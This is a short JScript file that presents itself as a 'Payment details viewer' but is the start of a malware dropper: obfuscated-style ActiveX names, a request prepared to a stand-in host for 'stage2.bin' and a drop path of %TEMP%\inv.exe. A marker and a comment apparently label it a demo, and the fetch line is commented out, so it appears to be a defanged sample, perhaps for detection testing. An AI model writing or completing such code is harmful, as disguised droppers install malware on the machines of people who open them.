// Payment details viewer
var _0xwb = ["WScript.Shell", "MSXML2.XMLHTTP", "ADODB.Stream", "%TEMP%\\inv.exe"];
var marker = "WBDEMO-JSDROP";
var sh = new ActiveXObject(_0xwb[0]);
var x = new ActiveXObject(_0xwb[1]);
x.open("GET", "http://cdn.badfiles.example/stage2.bin", false);
// x.send(); the demo never fetches anything
var path = sh.ExpandEnvironmentStrings(_0xwb[3]);
